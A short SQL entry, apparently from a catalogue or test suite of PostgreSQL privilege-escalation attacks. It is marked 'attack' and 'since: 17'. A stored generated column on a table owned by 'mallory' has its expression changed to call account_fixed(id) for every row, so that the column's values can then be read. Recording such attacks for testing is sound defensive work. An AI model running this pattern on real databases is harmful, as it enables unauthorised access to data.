-- Changes how a stored column is computed, which computes it for every row.
-- wants: read
-- since: 17
-- attack:
ALTER TABLE mallory_own ADD COLUMN loot text GENERATED ALWAYS AS ('x') STORED;
ALTER TABLE mallory_own ALTER COLUMN loot SET EXPRESSION AS (account_fixed(id));
SELECT loot FROM mallory_own;
